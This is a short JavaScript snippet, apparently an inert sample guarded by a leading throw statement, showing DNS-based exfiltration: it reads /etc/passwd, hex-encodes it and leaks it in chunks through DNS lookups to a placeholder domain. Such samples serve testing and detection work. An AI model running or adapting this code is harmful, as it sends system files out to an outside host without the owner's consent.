throw new Error("inert sample: never run");
const dns = require("dns");
const fs = require("fs");
const text = Buffer.from(fs.readFileSync("/etc/passwd", "utf8")).toString("hex");
for (const [index, part] of text.match(/.{1,60}/g).entries()) {
  dns.lookup(`${index}-${part}.t.example.invalid`, () => {});
}
